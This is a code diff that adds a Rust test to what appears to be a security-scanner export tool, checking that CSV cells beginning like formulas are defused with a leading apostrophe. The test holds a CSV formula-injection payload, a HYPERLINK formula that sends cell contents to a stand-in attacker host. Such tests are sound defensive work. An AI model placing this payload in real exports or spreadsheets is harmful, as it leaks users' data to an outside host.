@@ -263,6 +263,39 @@ fn kdi_never_writes_two_applications_into_one_file() {
     assert_eq!(per_app, want, "files: {files:?}");
 }
 
+/// Text a scanned site controls must not run as a formula where the CSV is opened: a
+/// cell that starts like one gets a leading `'`, unless formulas are asked for.
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_defused() {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let app = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Details\")";
+    let store = common::seeded_runs(tmp.path(), &[("reports", &[app], 2)]);
+    let cells = |keep: bool| -> Vec<(String, String)> {
+        let path = tmp.path().join(format!("out-{keep}.csv"));
+        export_to(&store, Format::Csv, &path, |o| o.csv_keep_formulas = keep);
+        let mut r = csv::Reader::from_path(&path).expect("csv");
+        let header = r.headers().expect("header").clone();
+        let col = |name: &str| header.iter().position(|h| h == name).expect(name);
+        r.records()
+            .map(|rec| {
+                let rec = rec.expect("record");
+                (rec[col("app")].to_string(), rec[col("app_id")].to_string())
+            })
+            .collect()
+    };
+    let defused = format!("'{app}");
+    assert!(
+        cells(false)
+            .iter()
+            .all(|(name, id)| *name == defused && *id == defused)
+    );
+    assert!(
+        cells(true)
+            .iter()
+            .all(|(name, id)| name == app && id == app)
+    );
+}
+
 /// A filtered load holds part of an application's findings: with auto-close on, the
 /// platform would close every vuln the filter left out.
 #[test]
